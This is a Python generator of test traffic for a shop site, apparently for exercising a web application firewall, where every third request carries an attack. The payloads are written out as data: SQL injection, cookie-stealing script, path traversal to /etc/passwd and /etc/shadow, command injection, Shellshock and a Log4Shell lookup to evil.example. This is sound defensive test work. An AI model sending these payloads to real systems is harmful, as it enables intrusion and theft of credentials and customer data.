"""Requests to a shop: every third is an attack, as the Core Rule Set knows them, in the query or in a header."""

from collections.abc import Mapping
from typing import Final
from urllib.parse import quote

EVERY: Final = 3  # so often an attack
HOST: Final = {"Host": "shop.example", "User-Agent": "Mozilla/5.0 (X11; Linux x86_64)", "Accept": "text/html"}
CLEAN: Final[tuple[str, ...]] = ("", "?q=blue+shoes&page=2", "?size=42&sort=price")
IN_QUERY: Final = {
    "SQL injection": ("id", "1' UNION SELECT card, name FROM customers--"),
    "SQL that is always true": ("user", "' OR '1'='1"),
    "script": ("q", "<script>alert(document.cookie)</script>"),
    "script in an attribute": ("q", '"><img src=x onerror=alert(1)>'),
    "path traversal": ("file", "../../../../etc/passwd"),
    "command": ("host", "127.0.0.1; cat /etc/passwd"),
    "PHP": ("page", "php://filter/convert.base64-encode/resource=index"),
}
IN_HEADER: Final = {
    "shell function": ("User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"),
    "JNDI": ("X-Api-Version", "${jndi:ldap://evil.example/a}"),
    "SQL injection in a cookie": ("Cookie", "session=1' UNION SELECT password FROM users--"),
    "script in the referrer": ("Referer", "http://x.example/<script>alert(1)</script>"),
    "path traversal in a header": ("X-File", "../../../../etc/shadow"),
}
KINDS: Final = (*IN_QUERY, *IN_HEADER)


def attack(kind: str, path: str) -> tuple[str, Mapping[str, str]]:
    """Return path and headers of such an attack on ``path``."""
    if kind in IN_HEADER:
        return path, dict([*HOST.items(), IN_HEADER[kind]])
    name, value = IN_QUERY[kind]
    return f"{path}?{name}={quote(value, safe='')}", HOST


def is_attack(number: int) -> bool:
    return number % EVERY == 0


def request(number: int) -> tuple[str, Mapping[str, str]]:
    """Return path and headers of that request of a load."""
    path = f"/load/{number}"
    if is_attack(number):
        return attack(KINDS[number // EVERY % len(KINDS)], path)
    return path + CLEAN[number // EVERY % len(CLEAN)], HOST
